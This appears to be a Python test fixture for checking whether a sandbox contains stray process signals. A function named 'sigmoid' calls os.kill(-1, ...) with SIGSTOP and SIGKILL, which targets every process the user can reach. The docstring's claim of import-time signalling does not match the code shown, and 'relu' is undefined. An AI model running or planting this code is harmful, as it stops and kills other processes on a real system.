"""Send every signal to every process, on import and again in a call.

Instead: they reach the sender at most.
Points: no more
"""

import os
import signal

plain_relu = relu
print("TRIED", flush=True)


def sigmoid(x):
    for number in (signal.SIGSTOP, signal.SIGKILL):
        os.kill(-1, number)
    return 0.5
